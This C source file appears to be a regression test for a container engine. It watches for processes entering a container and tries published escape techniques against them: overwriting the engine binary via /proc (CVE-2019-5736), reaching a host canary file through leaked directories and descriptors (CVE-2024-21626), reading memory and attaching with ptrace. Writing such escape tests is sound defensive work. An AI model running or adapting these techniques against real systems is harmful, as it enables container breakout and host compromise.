/* Lies in wait for the engine's processes that enter a container, and tries to reach the host through them.
 *
 *   stalk SECONDS CANARY DEVICE:INODE
 *
 * CANARY is the path on the host of a file that the container was not given, DEVICE:INODE the engine's binary. Every
 * process that was not there at the start is tried, again and again while it lives: its executable is opened for
 * writing (CVE-2019-5736), its root, working directory and descriptors are used as a way to CANARY (CVE-2024-21626),
 * its memory is read, it is traced (CVE-2016-9962). At the end, one line each: "seen", "tries", "refused" (by EACCES or
 * EPERM), and what must be 0: "canary", "exe" (the engine's file was written), "memory", "traced" (both: of a process
 * that may more than this one, or is the engine; what the container itself runs is no prey, even if that is the
 * engine's init or /proc/self/exe). With CAP_SYS_PTRACE "traced" is no escape; then "seized" counts what was stopped,
 * and "richer" must be 0: what was stopped has capabilities, a mount namespace or an unfiltered system call that this
 * one has not. "told" counts command lines with the directory above that of CANARY: what the engine was called with. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static unsigned long seen, tries, refused, canary_hits, exe_hits, memory_hits, traced_hits;
static unsigned long seized, richer, told;
static const char *canary;
static dev_t engine_dev;
static ino_t engine_ino;
static unsigned long long own_capabilities;

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int try_open(int dir, const char *path, int flags)
{
	int fd = openat(dir, path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);

	tries++;
	if (fd < 0 && (errno == EACCES || errno == EPERM))
		refused++;
	return fd;
}

/* From a directory of the host, '..' ends at the host's root, whatever the caller's root is. */
static void climb(int dir, const char *how)
{
	char path[4096];

	snprintf(path, sizeof(path), "../../../../../../../../../../../..%s", canary);
	int fd = try_open(dir, path, O_RDONLY);
	if (fd < 0)
		fd = try_open(dir, canary + 1, O_RDONLY);
	if (fd < 0)
		return;
	printf("escape: the canary by %s\n", how);
	canary_hits++;
	close(fd);
}

/* The engine's binary, or a copy of it in memory. */
static bool is_engine(int proc)
{
	char path[4096];
	struct stat st;
	ssize_t n = readlinkat(proc, "exe", path, sizeof(path) - 1);

	if (n <= 0 || fstatat(proc, "exe", &st, 0) < 0)
		return false;
	path[n] = '\0';
	return (st.st_dev == engine_dev && st.st_ino == engine_ino) || strncmp(path, "/memfd:", 7) == 0;
}

static bool is_engine_file(int fd)
{
	struct statfs fs;
	struct stat st;

	if (fstat(fd, &st) < 0 || fstatfs(fd, &fs) < 0)
		return false;
	/* A file in memory has no name any more. */
	return (st.st_dev == engine_dev && st.st_ino == engine_ino) || (fs.f_type == 0x01021994 && st.st_nlink == 0);
}

static bool read_at(int proc, const char *name, char *text, size_t size)
{
	int fd = openat(proc, name, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, size - 1);

	if (fd >= 0)
		close(fd);
	text[n > 0 ? n : 0] = '\0';
	return n > 0;
}

static unsigned long long capabilities(int proc)
{
	char text[4096];
	const char *line = read_at(proc, "status", text, sizeof(text)) ? strstr(text, "CapPrm:") : NULL;

	return line ? strtoull(line + 7, NULL, 16) : 0;
}

static bool is_prey(int proc)
{
	char command[64];

	if (capabilities(proc) & ~own_capabilities)
		return true;
	return is_engine(proc) && read_at(proc, "cmdline", command, sizeof(command)) &&
	       strcmp(command, "kist-init") != 0 && strcmp(command, "/proc/self/exe") != 0;
}

static void try_exe(int proc)
{
	static const int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND };

	for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
		int fd = try_open(proc, "exe", flags[i]);
		if (fd < 0)
			continue;
		if (is_engine_file(fd) && pwrite(fd, "#!", 2, 0) == 2) {
			printf("escape: the engine was written\n");
			exe_hits++;
		}
		close(fd);
	}
	/* The way of the published attack: held open while it runs, written when it has ended. */
	int held = try_open(proc, "exe", O_PATH);
	if (held < 0)
		return;
	char path[32];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int i = 0; i < 20 && is_engine_file(held); i++) {
		int fd = try_open(AT_FDCWD, path, O_WRONLY);
		if (fd >= 0 && pwrite(fd, "#!", 2, 0) == 2) {
			printf("escape: the engine was written when its process had ended\n");
			exe_hits++;
		}
		if (fd >= 0)
			close(fd);
		usleep(500);
	}
	close(held);
}

static void try_fds(int proc)
{
	int dir = try_open(proc, "fd", O_RDONLY | O_DIRECTORY);
	DIR *d = dir < 0 ? NULL : fdopendir(dir);

	for (const struct dirent *e; d && (e = readdir(d));) {
		if (!isdigit((unsigned char)e->d_name[0]))
			continue;
		int fd = try_open(dir, e->d_name, O_PATH | O_DIRECTORY);
		if (fd < 0)
			continue;
		climb(fd, "a descriptor");
		close(fd);
	}
	if (d)
		closedir(d);
}

static void own_and_its(int proc, const char *what, char own[64], char its[64])
{
	ssize_t n = readlink(what, own, 63), m = readlinkat(proc, what + strlen("/proc/self/"), its, 63);

	own[n > 0 ? n : 0] = '\0';
	its[m > 0 ? m : 0] = '\0';
}

static char seccomp_mode(int proc)
{
	char text[4096];
	const char *line = read_at(proc, "status", text, sizeof(text)) ? strstr(text, "\nSeccomp:\t") : NULL;

	return line ? line[10] : '?';
}

/* Stopped, it cannot shed anything while it is looked at. */
static void compare_rights(pid_t pid, int proc)
{
	char own[64], its[64];

	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0 || waitpid(pid, NULL, __WALL) != pid)
		return;
	seized++;
	own_and_its(proc, "/proc/self/ns/mnt", own, its);
	int self = open("/proc/self", O_PATH | O_DIRECTORY | O_CLOEXEC);
	unsigned long long more = capabilities(proc) & ~own_capabilities;
	char mode = seccomp_mode(proc), own_mode = seccomp_mode(self);
	if (more || (*its && strcmp(own, its) != 0) || (mode != '?' && mode != own_mode)) {
		printf("richer: capabilities %llx, %s instead of %s, filter %c instead of %c\n", more, its, own, mode,
		       own_mode);
		richer++;
	}
	close(self);
}

static void try_memory(pid_t pid, int proc)
{
	char byte;
	int fd = try_open(proc, "mem", O_RDONLY);

	if (fd >= 0) {
		/* Where a static binary begins, and where the kernel puts a relocated one, cannot be known: any read.
		 */
		int maps = try_open(proc, "maps", O_RDONLY);
		char line[128] = "";
		if (maps >= 0 && read(maps, line, sizeof(line) - 1) > 0 &&
		    pread(fd, &byte, 1, (off_t)strtoull(line, NULL, 16)) == 1 && is_prey(proc)) {
			printf("escape: memory was read\n");
			memory_hits++;
		}
		if (maps >= 0)
			close(maps);
	}
	if (fd >= 0)
		close(fd);
	tries++;
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		compare_rights(pid, proc);
		if (is_prey(proc)) {
			printf("escape: traced\n");
			traced_hits++;
		}
		/* It is stopped, which the detach needs. */
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	} else if (errno == EPERM || errno == EACCES) {
		refused++;
	}
}

/* The whole line, for those arguments that come later. */
static void try_command_line(int proc)
{
	char line[4096], store[4096];
	int fd = openat(proc, "cmdline", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, line, sizeof(line) - 1);

	if (fd >= 0)
		close(fd);
	snprintf(store, sizeof(store), "%s", canary);
	for (int i = 0; i < 2; i++)
		*strrchr(store, '/') = '\0';
	line[n > 0 ? n : 0] = '\0';
	for (ssize_t i = 0; i < n; i++)
		if (!line[i])
			line[i] = ' ';
	if (*store && strstr(line, store)) {
		printf("told: %s\n", line);
		told++;
	}
}

static void attack(pid_t pid)
{
	char name[32];

	snprintf(name, sizeof(name), "/proc/%d", pid);
	int proc = open(name, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (proc < 0)
		return;
	seen++;
	try_command_line(proc);
	for (int i = 0; i < 3; i++) {
		static const char *const ways[] = { "cwd", "root" };
		for (size_t w = 0; w < 2; w++) {
			int fd = try_open(proc, ways[w], O_PATH | O_DIRECTORY);
			if (fd < 0)
				continue;
			climb(fd, ways[w]);
			close(fd);
		}
		try_fds(proc);
		try_memory(pid, proc);
		try_exe(proc);
	}
	close(proc);
}

int main(int argc, char **argv)
{
	static bool known[65536];

	if (argc != 4 || argv[2][0] != '/' || !strchr(argv[3], ':'))
		return 2;
	engine_dev = (dev_t)strtoull(argv[3], NULL, 10);
	engine_ino = (ino_t)strtoull(strchr(argv[3], ':') + 1, NULL, 10);
	int self = open("/proc/self", O_PATH | O_DIRECTORY | O_CLOEXEC);
	own_capabilities = capabilities(self);
	canary = argv[2];
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (access(canary, F_OK) == 0)
		printf("error: the canary can be seen from the start\n");
	double end = now() + atof(argv[1]);
	for (bool first = true; now() < end; first = false) {
		DIR *d = opendir("/proc");
		for (const struct dirent *e; d && (e = readdir(d));) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid >= 65536 || pid == getpid() || known[pid])
				continue;
			known[pid] = true;
			if (!first)
				attack(pid);
		}
		if (d)
			closedir(d);
	}
	printf("seen %lu\ntries %lu\nrefused %lu\n", seen, tries, refused);
	printf("seized %lu\nricher %lu\ntold %lu\n", seized, richer, told);
	printf("canary %lu\nexe %lu\nmemory %lu\ntraced %lu\n", canary_hits, exe_hits, memory_hits, traced_hits);
	return 0;
}
